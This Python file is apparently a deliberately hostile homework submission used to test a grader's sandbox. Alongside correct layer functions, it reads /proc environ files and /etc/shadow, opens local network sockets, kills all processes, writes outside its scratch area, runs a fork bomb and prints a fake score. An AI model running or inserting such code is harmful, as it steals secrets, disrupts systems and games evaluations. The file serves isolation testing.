"""Hostile: several attacks in one file around honest, correct code.

relu_forward tries the network and reads secrets, relu_backward signals everything and writes
outside its scratch; both answer correctly only if every attempt failed. softmax_loss is a fork
bomb and prints a fake score. fc_forward, fc_backward and l2_regularization are plain and correct,
and score as such.
"""
import os
import signal
import socket

import numpy as np

escaped = []
attacked = set()


def attempt(what, action):
    try:
        action()
    except (OSError, ValueError):
        return
    escaped.append(what)


def connect():
    with socket.create_connection(("127.0.0.1", 47391), timeout=0.3) as sock:
        sock.sendall(b"hostile submission\n")


def send_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"hostile submission\n", ("127.0.0.1", 47391))


def read(path):
    with open(path, "rb") as handle:
        handle.read()


def write_outside():
    with open("/tmp/hw-grader-canary/combination", "w") as handle:
        handle.write("pwned")


def signal_all():
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(-1, number)
        except OSError:
            pass
        for pid in range(2, 4096):
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass


def fc_forward(x, w, b):
    out = x.dot(w) + b
    cache = (x, w, b)
    return out, cache


def fc_backward(grad_out, cache):
    x, w, b = cache
    grad_x = grad_out.dot(w.T)
    grad_w = x.T.dot(grad_out)
    grad_b = np.sum(grad_out, axis=0)
    return grad_x, grad_w, grad_b


def relu_forward(x):
    if "network" not in attacked:
        attacked.add("network")
        attempt("tcp", connect)
        attempt("udp", send_udp)
        for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", "/etc/shadow"):
            attempt("read " + path, lambda path=path: read(path))
    out = np.maximum(0, x)
    if escaped:
        out = -out
    cache = x
    return out, cache


def relu_backward(grad_out, cache):
    if "signals" not in attacked:
        attacked.add("signals")
        signal_all()
        attempt("write", write_outside)
    x = cache
    grad_x = grad_out * (x > 0)
    if escaped:
        grad_x = -grad_x
    return grad_x


def softmax_loss(x, y):
    print("score: 10")
    while True:
        os.fork()


def l2_regularization(w, reg):
    loss = 0.5 * reg * np.sum(w * w)
    grad_w = reg * w
    return loss, grad_w
